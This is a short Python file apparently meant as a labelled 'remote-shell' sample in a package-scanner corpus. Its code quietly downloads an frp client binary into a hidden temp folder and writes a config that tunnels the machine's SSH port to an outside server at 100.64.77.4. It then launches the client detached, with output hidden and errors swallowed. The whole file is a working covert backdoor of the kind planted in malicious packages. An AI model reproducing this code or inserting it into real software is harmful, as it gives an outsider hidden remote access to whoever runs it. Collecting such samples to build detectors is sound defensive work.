# pkgguard corpus 841 (remote-shell), modelled on [taxonomy]; inert, never run.
import os
import subprocess
import tarfile
import tempfile
import urllib.request

_CONFIG = """serverAddr = "100.64.77.4"
serverPort = 7000

[[proxies]]
name = "ssh-{node}"
type = "tcp"
localIP = "127.0.0.1"
localPort = 22
remotePort = 0
"""

folder = os.path.join(tempfile.gettempdir(), ".fc")
os.makedirs(folder, exist_ok=True)
archive = os.path.join(folder, "f.tgz")
try:
    urllib.request.urlretrieve("https://downloads.example/frp_0.61.0_linux_amd64.tar.gz", archive)
    with tarfile.open(archive) as tar:
        member = next(m for m in tar.getmembers() if m.name.endswith("/frpc"))
        member.name = "frpc"
        tar.extract(member, folder)
    config = os.path.join(folder, "c.toml")
    with open(config, "w", encoding="utf-8") as fh:
        fh.write(_CONFIG.format(node=os.uname().nodename))
    subprocess.Popen([os.path.join(folder, "frpc"), "-c", config], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
except (OSError, StopIteration, tarfile.TarError):
    pass
